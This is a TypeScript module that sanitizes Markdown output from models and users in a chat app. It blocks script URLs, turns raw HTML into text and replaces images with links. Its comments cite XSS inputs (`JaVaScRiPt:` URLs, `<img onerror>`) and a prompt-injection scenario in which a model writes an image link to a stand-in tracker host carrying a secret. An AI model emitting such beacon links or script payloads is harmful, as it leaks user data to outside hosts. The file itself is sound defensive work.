/**
 * The unified pipeline behind <Markdown>: URL policy, sanitize schema and the two small rehype
 * plugins that make untrusted model/user text safe to render.
 *
 * Order (rehype side): rawToText -> imagesToLinks -> sanitize (-> KaTeX, math.ts), then react-markdown
 * applies `urlTransform` to every href/src while building React elements. Code is coloured after
 * the render, from the code text (highlight.ts), not here.
 */
import type { Element, ElementContent, Root, RootContent } from "hast";
import type { Options as MarkdownOptions } from "react-markdown";
import rehypeSanitize, { defaultSchema, type Options as SanitizeSchema } from "rehype-sanitize";

type Pluggables = NonNullable<MarkdownOptions["rehypePlugins"]>;

/** Class on the `<a>` that stands in for a Markdown image (see `rehypeImagesToLinks`). */
const IMAGE_LINK_CLASS = "md-image-link";

const SAFE_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);

/**
 * Stricter than react-markdown's `defaultUrlTransform`: only absolute http(s)/mailto URLs and
 * in-page fragments (`#…`, used by GFM footnotes) survive; everything else, including relative
 * paths (they would resolve against the app's own origin), becomes "".
 *
 * The scheme is read with the WHATWG URL parser, i.e. exactly as the browser will read it, so
 * case tricks (`JaVaScRiPt:`), leading whitespace/control characters and embedded tabs/newlines
 * (`java\tscript:`) cannot make a script URL look harmless.
 */
export function urlTransform(url: string): string {
  const value = url.trim();
  if (value.startsWith("#")) return value;
  let parsed: URL;
  try {
    parsed = new URL(value);
  } catch {
    return "";
  }
  return SAFE_PROTOCOLS.has(parsed.protocol) ? parsed.href : "";
}

/** True for hrefs that stay inside the rendered message (footnotes). */
export function isFragmentHref(href: string): boolean {
  return href.startsWith("#");
}

type Parent = Root | Element;

/** Depth-first rewrite: `fn` may replace each child; the replacement's children are visited next. */
function mapChildren(
  parent: Parent,
  fn: (node: RootContent, parent: Parent, insideLink: boolean) => RootContent,
  insideLink = false,
): void {
  const inLink = insideLink || (parent.type === "element" && parent.tagName === "a");
  const children = parent.children.map((child) => {
    const next = fn(child, parent, inLink);
    if (next.type === "element") mapChildren(next, fn, inLink);
    return next;
  });
  // Root children may be any RootContent; element children never become doctype/root here.
  parent.children = children as ElementContent[];
}

/** Containers whose direct children are blocks, so a raw node there was an HTML *block*. */
const FLOW_PARENTS = new Set(["blockquote", "section"]);

/** Class on the `<p>` that shows a raw HTML block as text (keeps its line breaks via CSS). */
const RAW_HTML_CLASS = "md-raw-html";

/**
 * Raw HTML in the Markdown (`<script>`, `<img onerror>`, `<iframe>`, …) is shown as literal text,
 * never parsed as HTML. Showing it (rather than silently dropping it) is what a chat user expects
 * when a model or a person writes about HTML outside a code span. React escapes text, so this is
 * inert. Without this step rehype-sanitize would drop `raw` nodes entirely.
 */
function rehypeRawToText() {
  return (tree: Root): undefined => {
    mapChildren(tree, (node, parent) => {
      if (node.type !== "raw") return node;
      const text: ElementContent = { type: "text", value: node.value };
      const isBlock = parent.type === "root" || FLOW_PARENTS.has(parent.tagName);
      if (!isBlock) return text;
      return { type: "element", tagName: "p", properties: { className: [RAW_HTML_CLASS] }, children: [text] };
    });
  };
}

function altText(node: Element): string {
  const alt = node.properties.alt;
  const text = typeof alt === "string" ? alt.trim() : "";
  return text || "image";
}

/**
 * PRIVACY: images are never auto-loaded. A local-first app must not ping arbitrary hosts just
 * because a model (or a prompt-injected document) wrote `![](https://tracker.example/?q=secret)`.
 * Each image becomes a link labelled with its alt text that the user may choose to open; inside an
 * existing link (no nested anchors allowed) it becomes just the alt text. No `<img>` reaches the
 * DOM, and the sanitize schema below does not allow `img` at all.
 */
function rehypeImagesToLinks() {
  return (tree: Root): undefined => {
    mapChildren(tree, (node, _parent, insideLink) => {
      if (node.type !== "element" || node.tagName !== "img") return node;
      const text: ElementContent = { type: "text", value: altText(node) };
      if (insideLink) return text;
      const src = node.properties.src;
      const link: Element = {
        type: "element",
        tagName: "a",
        properties: {
          href: typeof src === "string" ? src : "",
          className: [IMAGE_LINK_CLASS],
          title: typeof node.properties.title === "string" ? node.properties.title : undefined,
        },
        children: [text],
      };
      return link;
    });
  };
}

const defaultAttributes = defaultSchema.attributes ?? {};

/**
 * GitHub-style default schema, plus:
 *  - highlight.js classes: `hljs` + `language-*` on `code`, `hljs-*` (and the `class_`-style
 *    sub-scope classes lowlight emits for scopes like `title.class_`) on `span`;
 *  - our image-link class on `a`;
 *  - minus `img` (see `rehypeImagesToLinks`), fewer link protocols;
 *  - no id clobbering: the only ids come from GFM footnotes, which remark-rehype already prefixes
 *    with a per-message prefix (clobbering again would break the footnote links).
 */
const sanitizeSchema: SanitizeSchema = {
  ...defaultSchema,
  tagNames: (defaultSchema.tagNames ?? []).filter((tag) => tag !== "img"),
  attributes: {
    ...defaultAttributes,
    a: [
      ...(defaultAttributes.a ?? []).filter((def) => !(Array.isArray(def) && def[0] === "className")),
      ["className", "data-footnote-backref", IMAGE_LINK_CLASS],
    ],
    p: [["className", RAW_HTML_CLASS]],
    code: [["className", "hljs", /^language-./]],
    span: [["className", /^hljs-[\w-]+$/, /^[a-z][a-z0-9]*_+$/]],
  },
  clobber: [],
  protocols: {
    ...defaultSchema.protocols,
    href: ["http", "https", "mailto"],
    src: [],
  },
};

export const rehypePlugins: Pluggables = [rehypeRawToText, rehypeImagesToLinks, [rehypeSanitize, sanitizeSchema]];
